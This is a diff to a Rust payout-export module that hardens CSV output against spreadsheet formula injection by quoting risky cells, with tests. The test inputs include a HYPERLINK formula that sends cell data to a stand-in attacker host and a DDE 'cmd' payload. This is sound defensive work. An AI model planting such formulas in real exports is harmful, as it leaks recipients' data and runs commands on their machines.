@@ -2,6 +2,8 @@
 //! tools that send money read (PayPal Payouts' bulk upload, Wise's batch payment). The
 //! columns of each are documented in `docs/paying-partners.md`.
 
+use std::borrow::Cow;
+
 use serde::Deserialize;
 use utoipa::ToSchema;
 
@@ -56,13 +58,43 @@ impl Sheet {
         I: IntoIterator<Item = S>,
         S: AsRef<[u8]>,
     {
+        let cells = fields.into_iter().map(|f| inert(f.as_ref()).into_owned());
         // Writing into a Vec cannot fail.
-        self.0.write_record(fields).expect("CSV into memory");
+        self.0.write_record(cells).expect("CSV into memory");
     }
 
     fn bytes(self) -> Vec<u8> {
         self.0.into_inner().expect("CSV into memory")
     }
+}
+
+/// A cell that a spreadsheet shows as text. A cell starting with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets, and
+/// names, emails and references come from partners and integrators: such a cell gets a
+/// leading `'`, unless it is a plain number (a negative amount stays a number).
+fn inert(cell: &[u8]) -> Cow<'_, [u8]> {
+    match cell.first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_number(cell) => {
+            let mut quoted = Vec::with_capacity(cell.len() + 1);
+            quoted.push(b'\'');
+            quoted.extend_from_slice(cell);
+            Cow::Owned(quoted)
+        }
+        _ => Cow::Borrowed(cell),
+    }
+}
+
+/// An optionally signed decimal number: digits with at most one `.` among them.
+fn is_number(cell: &[u8]) -> bool {
+    let digits = cell.strip_prefix(b"-").unwrap_or(cell);
+    let digits = digits.strip_prefix(b"+").unwrap_or(digits);
+    let (whole, fraction) = match digits.iter().position(|&b| b == b'.') {
+        Some(dot) => (&digits[..dot], &digits[dot + 1..]),
+        None => (digits, &b""[..]),
+    };
+    !whole.is_empty()
+        && whole.iter().all(u8::is_ascii_digit)
+        && fraction.iter().all(u8::is_ascii_digit)
 }
 
 fn opt(v: Option<impl ToString>) -> String {
@@ -343,6 +375,49 @@ mod tests {
         let t = text(PayoutFormat::Csv);
         assert!(t.starts_with(&ITEM_HEADER.join(",")));
         assert!(t.contains("\n7,5,Bo,,bo@example.com,10,eur,1\n"));
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_quoted() {
+        let cell = |c: &str| String::from_utf8(inert(c.as_bytes()).into_owned()).unwrap();
+        for formula in [
+            "=HYPERLINK(\"https://evil.example/?\"&A1)",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1",
+            "\r=1",
+            "-",
+            "-.5",
+            "1-",
+        ] {
+            let quoted = cell(formula);
+            if formula.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                assert_eq!(quoted, format!("'{formula}"), "{formula:?}");
+            } else {
+                assert_eq!(quoted, formula, "{formula:?}");
+            }
+        }
+        for kept in [
+            "-1250",
+            "-12.50",
+            "+3",
+            "0.10",
+            "Ann",
+            "ann@example.com",
+            "",
+            "1-",
+        ] {
+            assert_eq!(cell(kept), kept, "{kept:?}");
+        }
+    }
+
+    #[test]
+    fn a_formula_in_a_name_reaches_the_file_as_text() {
+        let mut p = payout();
+        p.items.as_mut().unwrap()[1].partner_name = "=1+1".into();
+        let t = String::from_utf8(payout_file(&p, PayoutFormat::Wise)).unwrap();
+        assert!(t.contains("\n'=1+1,bo@example.com,Payout 7,"), "{t}");
     }
 
     #[test]
